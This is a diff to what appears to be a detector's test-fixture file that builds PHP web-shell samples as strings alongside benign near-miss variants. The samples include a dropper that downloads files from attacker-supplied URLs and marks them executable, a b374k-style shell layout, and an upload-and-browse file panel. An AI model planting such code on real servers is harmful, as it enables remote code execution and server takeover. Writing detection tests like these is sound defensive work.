@@ -36,7 +36,7 @@ ENCODED_NEAR = php_bytes(
 DROPPER = php(
     "$list = trim($_GET['src']);\n"
     "$body = file_get_contents($list);\n"
-    "foreach (explode(\"\\n\", $body) as $u) {\n"
+    'foreach (explode("\\n", $body) as $u) {\n'
     "  $name = end(explode('/', $u));\n"
     "  $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $data = curl_exec($ch);\n"
     "  file_put_contents($name, $data); @chmod($name, 0755);\n"
@@ -54,7 +54,8 @@ B374K_LAYOUT = php(
     "?><title><?php echo $GLOBALS['title']; ?></title>"
     "<link rel='icon' href='<?php echo get_resource('logo'); ?>'>\n<?php\n"
     "foreach ($GLOBALS['module_to_load'] as $k) {\n"
-    "  echo \"<a id='m\" . $GLOBALS['module'][$k]['id'] . \"'>\" . $GLOBALS['module'][$k]['title'] . '</a>';\n"
+    "  echo \"<a id='m\" . $GLOBALS['module'][$k]['id'] . \"'>\";\n"
+    "  echo $GLOBALS['module'][$k]['title'] . '</a>';\n"
     "}\nforeach (get_server_info() as $k => $v) echo '<div>' . $v . '</div>';"
 )
 # Near-miss: a CMS module registry without the kit's helper functions.
@@ -72,7 +73,8 @@ PANEL = php(
     " move_uploaded_file($_FILES['up']['tmp_name'], $dest); }\n"
     "$h = opendir($dir);\n"
     "while ($e = readdir($h)) {"
-    " echo '<a href=\"' . $_SERVER['PHP_SELF'] . '?dir=' . urlencode($dir . '/' . $e) . '\">' . $e . '</a>'; }"
+    " echo '<a href=\"' . $_SERVER['PHP_SELF'] . '?dir=' . urlencode($dir . '/' . $e) . '\">';"
+    " echo $e . '</a>'; }"
 )
 PANEL_ROOT = php(
     "$dir = isset($_GET['dir']) ? $_GET['dir'] : '.';\n"
